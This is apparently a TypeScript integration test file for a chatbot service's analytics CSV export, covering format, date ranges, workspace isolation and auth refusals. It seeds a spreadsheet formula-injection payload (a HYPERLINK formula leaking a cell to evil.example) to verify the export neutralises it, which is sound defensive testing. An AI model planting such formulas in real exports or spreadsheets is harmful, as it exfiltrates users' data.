import { type Analytics, analyticsSchema, widgetConversationSchema } from "@parley/contracts";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { builderClient, type Owner } from "../builder/client";
import { createTestApp, type TestApp, testDrivers } from "../harness";
import { readSse } from "../sse-client";
import { startTokenIssuer, type TokenIssuer } from "../token-issuer";

/** RFC 4180 read back: quoted fields (with commas, quotes doubled, line breaks), CRLF line ends. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ",") {
      row.push(field);
      field = "";
    } else if (c === "\r" && text[i + 1] === "\n") {
      row.push(field);
      rows.push(row);
      row = [];
      field = "";
      i++;
    } else field += c;
  }
  expect(field, "the file ends with CRLF").toBe("");
  return rows;
}

const DAY = 86_400_000;
/** A visitor's question that a spreadsheet would run as a formula. */
const FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")';

/**
 * GET /api/analytics.csv (issue 25, item 13): the analytics page's figures for the chosen range,
 * one per row (`section,item,metric,value`), the same as GET /api/analytics says.
 */
describe.each(testDrivers("either"))("analytics as CSV on %s", (driver) => {
  let t: TestApp;
  let issuer: TokenIssuer;
  let api: ReturnType<typeof builderClient>;
  const owner: Owner = { sub: "auth_csv_shop", email: "csv@example.com", name: "Csv shop" };
  const other: Owner = { sub: "auth_csv_other", email: "csv-other@example.com", name: "Other shop" };
  let botId = "";
  let otherBot = "";
  const day = (offset = 0) => new Date(t.app.clock.now().getTime() + offset * DAY).toISOString().slice(0, 10);
  let first = ""; // the seeded range: two days
  let second = "";

  const widget = (bot: string, method: string, p: string, visitor: string, body?: unknown) =>
    fetch(`${t.url}/api/widget/${bot}${p}`, {
      method,
      headers: {
        "x-parley-visitor": visitor,
        ...(body === undefined ? {} : { "content-type": "application/json" }),
      },
      body: body === undefined ? undefined : JSON.stringify(body),
    });
  const visit = async (bot: string, visitor: string, questions: string[]) => {
    const started = await widget(bot, "POST", "/conversations", visitor);
    expect(started.status).toBe(201);
    const conv = widgetConversationSchema.parse(await started.json())._id;
    for (const content of questions) {
      const res = await widget(bot, "POST", `/conversations/${conv}/messages`, visitor, { content });
      expect(res.status).toBe(200);
      await readSse(res);
    }
    return conv;
  };
  const csv = async (who: Owner, query: string) => {
    const res = await fetch(`${t.url}/api/analytics.csv?${query}`, {
      headers: { authorization: `Bearer ${await issuer.sign(who)}` },
    });
    return { res, text: await res.text() };
  };
  const json = async (who: Owner, query: string): Promise<Analytics> =>
    analyticsSchema.parse((await api.json(who, "GET", `/api/analytics?${query}`)).body);
  /** The CSV's rows as `section|item|metric` → value. */
  const figures = (rows: string[][]) =>
    new Map(rows.slice(1).map(([section, item, metric, value]) => [`${section}|${item}|${metric}`, value]));

  beforeAll(async () => {
    issuer = await startTokenIssuer();
    t = await createTestApp(driver, { AUTH_URL: issuer.url }, { listen: true });
    api = builderClient(t, issuer);
    botId = (
      await api.createBot(owner, {
        name: "Gift shop",
        published: true,
        leadCapture: true,
        handoff: { enabled: true, officeHours: null },
      })
    )._id;
    otherBot = (await api.createBot(other, { name: "Other shop", published: true }))._id;
    for (const [who, id] of [
      [owner, botId],
      [other, otherBot],
    ] as const) {
      const added = await api.addSource(who, id, {
        kind: "text",
        title: "Shipping",
        content: "We ship across Bahrain in two days. Shipping is free above 20 BHD.",
      });
      expect(added.status).toBe(201);
    }
    await t.app.services.jobs.drain();

    // Day one: a question a spreadsheet would run, asked twice (a top question), and one answered.
    first = day();
    await visit(botId, "visitorCsvCsvCsvCsvCsv01", [FORMULA, "Is shipping free?"]);
    await visit(botId, "visitorCsvCsvCsvCsvCsv02", [FORMULA]);
    // Day two: a visitor asks for a person (live chat).
    t.app.clock.advance(DAY);
    second = day();
    await visit(botId, "visitorCsvCsvCsvCsvCsv03", [
      "Do you sell gift cards, with a comma?",
      "Can I talk to a person?",
    ]);
    // Day three, outside the range.
    t.app.clock.advance(DAY);
    await visit(botId, "visitorCsvCsvCsvCsvCsv04", ["Outside the range?"]);
    // Another workspace, the same days.
    await visit(otherBot, "visitorCsvCsvCsvCsvCsv05", ["The other shop's secret question?"]);
  });
  afterAll(async () => {
    await t?.close();
    await issuer?.close();
  });

  it("gives the page's figures for the range, one per row, as the JSON says them", async () => {
    const query = `from=${first}&to=${second}`;
    const { res, text } = await csv(owner, query);
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(res.headers.get("content-disposition")).toBe(
      `attachment; filename="parley-analytics-${first}-to-${second}.csv"`,
    );
    const rows = parseCsv(text);
    expect(rows[0]).toEqual(["section", "item", "metric", "value"]);
    for (const row of rows) expect(row).toHaveLength(4);
    const got = figures(rows);
    const a = await json(owner, query);
    const n = (v: number | null) => (v === null ? "" : String(Number(v.toFixed(4))));

    expect(got.get("range||from")).toBe(first);
    expect(got.get("range||to")).toBe(second);
    expect(got.get("range||chatbot_id")).toBe("all");
    expect(got.get("range||time_zone")).toBe("UTC");
    // The totals, as seeded and as the page shows them.
    expect(a.totals).toMatchObject({ conversations: 3, questions: 5 });
    expect(got.get("totals||conversations")).toBe("3");
    expect(got.get("totals||questions")).toBe("5");
    expect(got.get("totals||messages")).toBe(String(a.totals.messages));
    expect(got.get("totals||answered")).toBe(String(a.totals.answered));
    expect(got.get("totals||answered_share")).toBe(n(a.answeredShare));
    expect(got.get("totals||thumbs_up")).toBe("0");
    expect(got.get("totals||satisfaction")).toBe(""); // no ratings: nothing to measure
    expect(got.get("totals||leads")).toBe("0");
    // One row per day and figure, both days.
    expect(rows.filter((r) => r[0] === "day").map((r) => r.slice(1, 3))).toEqual([
      [first, "conversations"],
      [first, "messages"],
      [second, "conversations"],
      [second, "messages"],
    ]);
    expect(got.get(`day|${first}|conversations`)).toBe("2");
    expect(got.get(`day|${second}|conversations`)).toBe("1");
    for (const d of a.days) expect(got.get(`day|${d.date}|messages`)).toBe(String(d.messages));
    // The 24 hours (UTC).
    const hours = rows.filter((r) => r[0] === "hour");
    expect(hours.map((r) => r[1])).toEqual(Array.from({ length: 24 }, (_, h) => String(h)));
    expect(hours.map((r) => Number(r[3]))).toEqual(a.busiestHours.map((h) => h.messages));
    // The top questions, most asked first (the text read back is the question, behind its guard).
    const top = rows.filter((r) => r[0] === "top_question");
    expect(top.map((r) => [r[1], r[3]])).toEqual(
      a.topQuestions.map((q) => [
        q.question.startsWith("=") ? `'${q.question}` : q.question,
        String(q.count),
      ]),
    );
    expect(top[0]).toEqual(["top_question", `'${FORMULA}`, "count", "2"]);
    expect(top.map((r) => r[1])).toContain("Do you sell gift cards, with a comma?");
    // Live chat: one visitor asked for a person, nobody answered yet.
    expect(a.live.handoffs).toBe(1);
    expect(got.get("live||handoffs")).toBe("1");
    expect(got.get("live||handoff_rate")).toBe(n(a.live.handoffRate));
    expect(got.get("live||first_human_reply_median_seconds")).toBe("");
    expect(got.get("live||first_human_reply_p90_seconds")).toBe("");
    expect(got.get("live||resolved_by_bot")).toBe(String(a.live.resolvedByBot));
    expect(got.get("live||resolved_by_person")).toBe(String(a.live.resolvedByPerson));
    // Nothing from outside the range.
    expect(text).not.toContain("Outside the range?");
  });

  it("follows the chosen range and bot", async () => {
    const one = figures(parseCsv((await csv(owner, `from=${second}&to=${second}&chatbotId=${botId}`)).text));
    expect(one.get("range||chatbot_id")).toBe(botId);
    expect(one.get("totals||conversations")).toBe("1");
    expect(one.get(`day|${first}|conversations`)).toBeUndefined();
    expect(one.get("top_question|Can I talk to a person?|count")).toBe("1");
  });

  it("neutralises cells a spreadsheet would run as formulas, and quotes as RFC 4180 says (hostile)", async () => {
    const { text } = await csv(owner, `from=${first}&to=${second}`);
    // The raw line: the formula behind a ', the cell quoted (it holds quotes and a comma).
    expect(text).toContain(
      `top_question,"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Click"")",count,2\r\n`,
    );
    expect(text).toContain(`top_question,"Do you sell gift cards, with a comma?",count,1\r\n`);
    for (const line of text.split("\r\n")) {
      // No cell starts a formula: each starts with a letter, digit, a quote or is empty.
      for (const cell of parseCsv(`${line}\r\n`)[0] ?? []) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    }
  });

  it("never includes another workspace's figures (hostile: its bot's id in the query)", async () => {
    const mine = await csv(owner, `from=${first}&to=${day()}`);
    expect(mine.text).not.toContain("secret question");
    const theirs = await csv(owner, `from=${first}&to=${day()}&chatbotId=${otherBot}`);
    expect(theirs.res.status).toBe(200);
    expect(theirs.text).not.toContain("secret question");
    const got = figures(parseCsv(theirs.text));
    expect(got.get("totals||conversations")).toBe("0");
    expect(got.get("totals||questions")).toBe("0");
    // Its own owner sees it.
    expect((await csv(other, `from=${first}&to=${day()}`)).text).toContain(
      "The other shop's secret question?",
    );
  });

  it("refuses a range the page refuses, and a caller without a session (hostile)", async () => {
    const backwards = await csv(owner, `from=${second}&to=${first}`);
    expect(backwards.res.status).toBe(400);
    expect(backwards.res.headers.get("content-type")).toContain("application/json");
    expect((await csv(owner, `from=2026-02-31&to=2026-03-05`)).res.status).toBe(400);
    expect((await csv(owner, `from=${first}`)).res.status).toBe(400);
    expect((await csv(owner, `from=2024-01-01&to=2026-01-01`)).res.status).toBe(400);
    const anonymous = await fetch(`${t.url}/api/analytics.csv?from=${first}&to=${second}`);
    expect(anonymous.status).toBe(401);
  });
});
